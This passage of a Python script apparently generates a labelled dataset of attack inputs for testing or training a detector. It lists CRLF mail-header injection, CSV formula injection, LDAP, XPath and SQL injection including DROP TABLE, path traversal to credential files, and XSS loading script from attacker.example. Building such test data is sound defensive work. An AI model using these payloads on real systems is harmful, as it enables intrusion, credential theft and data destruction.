mail¦Complaint 22-1187%0D%0ASubject:%20Your%20account%20is%20locked%0D%0A%0D%0AClick https://attacker.example
mail¦x@example.org>%0d%0aRCPT TO:<victim@attacker.example
mail¦Amber warning tonight⏎⏎.⏎MAIL FROM:<depot@example.org>⏎RCPT TO:<all@attacker.example>
csv-row¦Run 330 done⏎331,P9,00:00,00:01,999⏎332,P1,=cmd|' /C calc'!A0,,0
csv-row¦Rowan Way",0⏎"ghost","admin","2024-01-01
csv-row¦note;ok⏎9999;salt;-5000;t
header¦P3%0aX-Depot-Role:%20supervisor%0a
csv-row¦Kev,early,Mon,confirmed␍⏎ghost,admin,ALL,approved
""")

LDAPX = L("""
ldap¦*)(uid=*))(|(uid=*
ldap¦kev)(|(password=*))
ldap¦admin*)((|userPassword=*)
ldap¦*)(objectClass=*
ldap¦O'Connor)(&(memberOf=cn=depot-admins,ou=groups,dc=council,dc=gov)
ldap¦amira)(!(cn=*)
ldap¦\\2a)(uid=\\2a
ldap¦*))%00
ldap¦j*)(department=highways)(telephoneNumber=*
ldap¦supervisor)(|(objectClass=person)(mail=*@attacker.example)
xpath¦' or '1'='1
xpath¦route' or name()='route' or 'a'='b
xpath¦'] | //user/password | //x['
xpath¦P3' and string-length(//user[1]/password)>5 and '1'='1
xpath¦x' or substring(//user[position()=1]/pin,1,1)='4' or 'a'='b
xpath¦1 or count(/*)>0
xpath¦') or ('1'='1
xpath¦kev' or doc('http://attacker.example/x.xml')/a or '
xpath¦"] | //* | //*["
xpath¦Elm Way' or contains(//staff/@role,'admin') or '
""")

# small generated part (<10%): hand-written pools joined to hand-written theme prefixes
PREFIXES = ["Route P8 ", "Cedar Close ", "Gritter 6 ", "salt barn C ", "Moss Lane "]
SQLI_POOL = ["' OR 'a'='a'-- -", "' UNION SELECT login,pwd FROM crew-- -", "'; DROP TABLE rosters;--",
             "' AND SLEEP(7)-- -", "' AND 1=CAST(version() AS int)--", "') OR ('z'='z",
             "' ORDER BY 9-- -", "'; SELECT pg_sleep(6)--"]
TRAV_POOL = ["../../../../etc/passwd", "..\\..\\..\\windows\\win.ini", "../../../proc/self/environ",
             "../../.env", "../../../../var/log/depot/app.log"]
XSS_POOL = ["<svg onload=alert(1)>", "<img src=x onerror=alert(document.cookie)>",
            "<script src=//attacker.example/a.js></script>", "<iframe srcdoc='<script>alert(1)</script>'>"]

def pct(s):
    return "".join("%%%02X" % b for b in s.encode("utf-8"))

def generated(rng):
    out = {"sqli": [], "traversal": [], "xss": []}
    for pay in SQLI_POOL:
        out["sqli"].append(("mixed+urlencode", pct(rng.choice(PREFIXES).strip().split()[-1] + pay)))
    for pay in TRAV_POOL:
        out["traversal"].append(("dotdot+urlencode", pct(pay)))
    for pay in rng.sample(XSS_POOL, 3):
        out["xss"].append(("stored", rng.choice(PREFIXES) + pay))
    return out


def build():
    rng = random.Random(SEED)
    here = os.path.dirname(os.path.abspath(__file__))
    benign = set()
    with open(os.path.join(here, "benign.jsonl"), encoding="utf-8") as f:
        for line in f:
            benign.add(json.loads(line)["value"])
    gen = generated(rng)
    cats = [("sqli", SQLI), ("xss", XSS), ("cmdi", CMDI), ("traversal", TRAVERSAL), ("ssrf", SSRF),
            ("code", CODE), ("nosqli", NOSQLI), ("crlf", CRLF), ("ldap-xpath", LDAPX)]
    rows, seen = [], set()
    for cat, lits in cats:
        for cls, v in list(lits) + gen.get(cat, []):
            assert v not in seen, ("dup", v)
            assert v not in benign, ("benign", v)
            assert 1 <= len(v) <= 2000
            assert all(c in "\n\r\t" or ord(c) >= 32 for c in v), v
            seen.add(v)
            rows.append((cat, cls, v))
    with open(os.path.join(here, "attacks.jsonl"), "w", encoding="utf-8", newline="\n") as f:
        for i, (cat, cls, v) in enumerate(rows, 1):
            f.write(json.dumps({"id": "hals-%05d" % i, "category": cat, "class": cls, "label": "attack",
                                "value": v}, ensure_ascii=False) + "\n")
    return rows


if __name__ == "__main__":
    rows = build()
    print(len(rows), "attack values")
